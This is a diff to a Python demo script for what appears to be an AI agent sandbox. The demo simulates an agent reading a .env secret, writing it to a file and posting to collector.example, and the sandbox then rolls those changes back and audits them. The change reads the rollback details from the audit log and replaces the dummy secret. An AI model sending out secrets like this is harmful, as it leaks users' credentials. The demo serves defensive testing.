@@ -9,6 +9,7 @@ Everything is real: the tools below are ordinary functions, the files are on dis
 from __future__ import annotations
 
 import argparse
+import json
 import os
 import sys
 import tempfile
@@ -158,7 +159,8 @@ def attack(stage: Stage) -> None:
         stage.call(agent, "write_file", path="notes.txt", text=str(secret.value if secret else ""))
         stage.line("in sandbox", "  ".join(os.path.basename(path) for path in agent.sandbox.changed()))
         stage.call(agent, "http_post", url="http://collector.example/", body="notes")
-        stage.line("rolled back", "to the moment before .env was read")
+        undone = json.loads((stage.folder / "audit.jsonl").read_text().splitlines()[-1])
+        stage.line("rolled back", f"{undone['rollback_type']}, paths restored: {undone['files_restored']}")
         stage.line("in sandbox", "  ".join(os.path.basename(path) for path in agent.sandbox.changed()))
         stage.line("agent", "stands still until reset()" if agent.halted else "goes on")
     stage.files("after", repository)
@@ -185,7 +187,7 @@ def audit_log(stage: Stage) -> None:
     summary = verify_audit(path)
     told = ", ".join(f"{count} {event}" for event, count in summary.events.items())
     stage.line("✓ holds", f"{summary.count} records ({told})", "32")
-    stage.line("secret", "in clear" if b"4711" in path.read_bytes() else "nowhere in it")
+    stage.line("secret", "in clear" if b"not-a-real-key" in path.read_bytes() else "nowhere in it")
     forged = stage.folder / "forged.jsonl"
     forged.write_bytes(path.read_bytes().replace(b"http_post", b"read_file", 1))
     try:
@@ -201,6 +203,8 @@ def main() -> int:
     parser.add_argument("--isolation", default="strict", choices=["strict", "process"])
     parser.add_argument("--folder", type=Path, help="keep the files here")
     options = parser.parse_args()
+    if options.folder is not None and options.folder.exists() and any(options.folder.iterdir()):
+        parser.error(f"{options.folder} is not empty")
     home = os.getcwd()
     with tempfile.TemporaryDirectory(prefix="ringfence-demo-") as temporary:
         stage = Stage((options.folder or Path(temporary)).resolve(), options.isolation, options.fast)
